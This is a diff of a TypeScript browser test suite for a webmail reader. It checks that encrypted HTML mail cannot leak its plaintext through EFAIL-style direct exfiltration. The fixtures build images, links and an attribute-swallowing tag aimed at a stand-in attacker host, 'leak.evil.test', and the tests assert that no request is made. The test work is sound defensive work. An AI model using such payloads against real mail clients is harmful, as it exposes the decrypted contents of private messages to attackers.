@@ -62,13 +62,29 @@ describe.each<BrowserName>(["chromium", "firefox"])("hostile HTML in the reader,
   it("asks nobody, in every way that HTML has, and of an encrypted text offers no remote pictures", async () => {
     const all = Object.entries(ASKS).map(([way, write], index) => `<h3>${way}</h3>${write(`${stand.webmail.origin}/leak?${index}`)}${write(`http://leak.evil.test/${index}`)}`).join("\n");
     // The last one opens an attribute that swallows what follows, as EFAIL's direct exfiltration does.
-    const uid = stand.webmail.add(await stand.mail.encrypt(html(`<html><head>${ASKS["link"]?.("http://leak.evil.test/head")}</head><body>${all}`)));
+    // With GCM, since what CBC encrypts is drawn without HTML.
+    const uid = stand.webmail.add(await stand.mail.encrypt(html(`<html><head>${ASKS["link"]?.("http://leak.evil.test/head")}</head><body>${all}`), {}, "aes-256-gcm"));
     const page = await stand.open(stand.webmail.show(uid));
     const reader = await page.frame(READER);
     expect(await verdict(reader)).toBe("sentence_encrypted_only");
     await sleep(1500);
     expect(asked()).toEqual([]);
     expect(await reader.exists('[data-test="load-remote"]')).toBe(false);
+    await page.close();
+  });
+
+  it("a text that anybody may have changed is drawn as text, without a tag or an address of its own (EFAIL, CBC; UI-08)", async () => {
+    const page = await stand.open(stand.webmail.show(stand.webmail.add(await stand.mail.encrypt(html(`<p>SECRET</p><img src="${stand.webmail.origin}/leak?cbc"><a href="http://leak.evil.test/cbc">more</a>`)))));
+    const reader = await page.frame(READER);
+    expect(await verdict(reader)).toBe("sentence_encrypted_only");
+    const drawn = await reader.evaluate(() => {
+      const frame = document.querySelector('[data-test="reader-body"] iframe') as HTMLIFrameElement;
+      const body = new DOMParser().parseFromString(frame.srcdoc, "text/html").body;
+      return { text: body.textContent, tags: body.querySelectorAll("img, a, style, [href], [src]").length };
+    });
+    expect(drawn.text).toContain("SECRET");
+    expect(drawn.tags).toBe(0);
+    expect(asked()).toEqual([]);
     await page.close();
   });
 
@@ -80,12 +96,15 @@ describe.each<BrowserName>(["chromium", "firefox"])("hostile HTML in the reader,
     const page = await stand.open(stand.webmail.show(stand.webmail.add(Buffer.from(message, "latin1"))));
     const reader = await page.frame(READER);
     await verdict(reader);
+    // The ciphertext stays closed in its own frame, and says why.
+    await reader.waitFor('[data-test="reader-part"] [data-code="smime.part-not-opened"]');
     await sleep(1000);
     expect(asked()).toEqual([]);
     // Each part is a document of its own.
     const sources = await reader.evaluate(() => Array.from(document.querySelectorAll<HTMLIFrameElement>("iframe"), (frame) => [frame.srcdoc.includes("SECRET"), /<img[^>]*leak/.test(frame.srcdoc), frame.getAttribute("sandbox")]));
     expect(sources.length).toBeGreaterThan(0);
-    for (const [, leaks, sandbox] of sources) {
+    for (const [secret, leaks, sandbox] of sources) {
+      expect(secret).toBe(false);
       expect(leaks).toBe(false);
       expect(sandbox).not.toMatch(/allow-(scripts|same-origin|forms|top-navigation)/);
     }
